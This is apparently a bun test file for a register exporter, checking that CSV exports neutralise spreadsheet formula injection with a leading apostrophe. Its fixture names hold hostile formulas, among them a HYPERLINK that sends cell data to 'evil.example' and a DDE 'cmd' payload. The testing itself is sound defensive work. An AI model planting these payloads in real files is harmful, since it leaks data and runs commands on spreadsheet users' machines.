import { beforeAll, describe, expect, test } from 'bun:test'
import { TestClock } from '@lv/clock'
import { silentLogger } from '@lv/logger'
import { createBuilder } from '../../services/exporter/src/builder.ts'
import { DATASETS } from '../../services/exporter/src/datasets/index.ts'
import { csvValue } from '../../services/exporter/src/encode/row-format.ts'
import { neutraliseFormula } from '@lv/csv'
import { readCsvObjects, readNdjson } from '../../services/exporter/src/test-support/csv-reader.ts'
import { seeder } from '../../services/exporter/src/test-support/seed.ts'
import { storedFileText } from '../../services/exporter/src/test-support/stored-file.ts'
import { databasePerFile } from '@lv/testing/per-file'

const READ_AT = new Date('2026-11-01T06:00:00.000Z')
const clock = new TestClock('2026-11-01T12:00:00.000Z')
const env = databasePerFile()

/** Names a register page could print, each a formula to a spreadsheet, keyed by slug. */
const HOSTILE_NAMES: Record<string, string> = {
	'equals-co': '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
	'plus-co': "+1+cmd|' /C calc'!A0",
	'minus-co': '-2+3',
	'at-co': '@SUM(1,2)',
	'tab-co': '\t=1+1',
	'cr-co': '\r=1+1'
}

beforeAll(async () => {
	const seed = seeder(env.db.sql, READ_AT)
	for (const [slug, name] of Object.entries(HOSTILE_NAMES)) {
		const operator = await seed.operator(slug, name)
		await seed.licence(operator, { number: `=${slug}`, types: ['-Remote', 'Remote'] })
	}
	const plain = await seed.operator('plain-co', 'Plain Co - Gaming')
	const plainLicence = await seed.licence(plain, { number: '000-1', types: ['Remote'] })
	await seed.link(plain, 'plain.example', {
		licence: plainLicence,
		verificationUrl: 'https://cert.example/1',
		pageStatus: '=HYPERLINK("x")'
	})
	await seed.finishRun('UKGC', READ_AT)
}, 60_000)

describe('spreadsheet formulas in CSV exports', () => {
	const builder = () =>
		createBuilder({ sql: env.db.sql, clock, logger: silentLogger, chunkBytes: 1 << 16, batchRows: 100, maxConcurrentBuilds: 1 })
	const build = async (dataset: 'operators' | 'licences' | 'domains', format: 'csv' | 'json') =>
		storedFileText(env.db.sql, (await builder().fileFor({ dataset, format, jurisdiction: null, status: null })).file_id)

	test('a text cell starting with =, +, -, @, tab or CR is written with a leading apostrophe; other cells unchanged', async () => {
		const rows = readCsvObjects(await build('operators', 'csv'))
		const bySlug = new Map(rows.map((row) => [row.slug, row]))
		for (const [slug, name] of Object.entries(HOSTILE_NAMES)) {
			expect(bySlug.get(slug)?.display_name).toBe(`'${name}`)
			expect(bySlug.get(slug)?.registered_name).toBe(`'${name} Limited`)
			// Integer columns stay numbers.
			expect(bySlug.get(slug)?.license_count).toBe('1')
		}
		expect(bySlug.get('plain-co')?.display_name).toBe('Plain Co - Gaming')
	})

	test('licence numbers and list cells are neutralised too', async () => {
		const rows = readCsvObjects(await build('licences', 'csv'))
		const equals = rows.find((row) => row.license_number === "'=equals-co")
		expect(equals?.license_types).toBe("'-Remote|Remote")
		expect(rows.find((row) => row.license_number === '000-1')?.license_types).toBe('Remote')
	})

	test('domain cells (the verification page wording is printed verbatim by a third party) are neutralised too', async () => {
		const rows = readCsvObjects(await build('domains', 'csv'))
		expect(rows.find((row) => row.hostname === 'plain.example')?.verification_page_status).toBe(`'=HYPERLINK("x")`)
		expect(rows.find((row) => row.hostname === 'plain.example')?.license_number).toBe('000-1')
	})

	test('every text and list column of every dataset is neutralised', () => {
		const cells = Object.entries(DATASETS).flatMap(([dataset, { columns }]) =>
			columns
				.filter((column) => column.kind === 'text' || column.kind === 'text_list')
				.map((column) => [dataset, column.name, csvValue(column, column.kind === 'text' ? '=1+1' : ['=1+1', 'x'])])
		)
		expect(cells.length).toBeGreaterThan(40)
		for (const [dataset, name, cell] of cells) expect([dataset, name, cell?.startsWith("'=1+1")]).toEqual([dataset, name, true])
	})

	test('NDJSON keeps the register text verbatim (it is data, not a spreadsheet)', async () => {
		const rows = readNdjson(await build('operators', 'json'))
		expect(rows.find((row) => row.slug === 'equals-co')?.display_name).toBe(HOSTILE_NAMES['equals-co'])
	})

	test('neutraliseFormula prefixes exactly the OWASP formula starts', () => {
		for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`)
		for (const safe of ['x=1', ' =1', "'=1", '1-2', '', '\n=1']) expect(neutraliseFormula(safe)).toBe(safe)
	})
})
